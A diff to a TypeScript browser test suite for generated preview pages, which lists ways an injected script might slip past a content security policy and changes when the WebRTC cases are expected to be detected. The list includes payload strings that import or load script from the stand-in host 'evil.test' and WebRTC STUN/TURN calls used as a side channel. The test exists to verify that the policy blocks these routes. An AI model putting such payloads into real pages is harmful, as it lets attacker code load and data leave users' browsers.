@@ -1,6 +1,7 @@
 import { createSocket } from 'node:dgram';
 import { once } from 'node:events';
 import { type AddressInfo, createServer } from 'node:net';
+import { networkInterfaces } from 'node:os';
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { buildPreview, type PreviewExtras } from '#codegen/targets/result-pages';
@@ -337,18 +338,23 @@ const element = (name: string, more: string) =>
 const pose =
   "made.nonce = document.querySelector('script')?.nonce ?? ''; made.integrity = 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='";
 
+/** A browser gathers no address for a call on a machine with loopback only. */
+const callsAreSeen = Object.values(networkInterfaces())
+  .flat()
+  .some((address) => address?.internal === false);
+
 /** What a script could try that no word of a policy forbids, and whether an ordinary page gets through with it. */
 const waysOut: readonly (readonly [what: string, write: (ports: Ports) => string, isSeen: boolean])[] = [
-  ['a call between browsers', stun, true],
+  ['a call between browsers', stun, callsAreSeen],
   [
     'a call over TCP',
     ({ tcp }) => call(`{ urls: 'turn:127.0.0.1:${tcp}?transport=tcp', username: 'a', credential: 'b' }`),
-    true,
+    callsAreSeen,
   ],
   [
     'the older name of a call',
     (ports) => stun(ports).replace('RTCPeerConnection', 'webkitRTCPeerConnection'),
-    true,
+    callsAreSeen,
   ],
   [
     'a call out of an empty frame',
@@ -362,7 +368,7 @@ const waysOut: readonly (readonly [what: string, write: (ports: Ports) => string
         'iframe',
         `made.srcdoc = '<script nonce="' + (document.querySelector('script')?.nonce ?? '') + '">' + ${JSON.stringify(stun(ports))} + '<' + '/script>'`,
       ),
-    true,
+    callsAreSeen,
   ],
   ['an import', () => `import('http://evil.test/a.js').catch(() => {});`, true],
   ['a script from elsewhere', () => element('script', `made.src = 'http://evil.test/a.js'; ${pose}`), true],
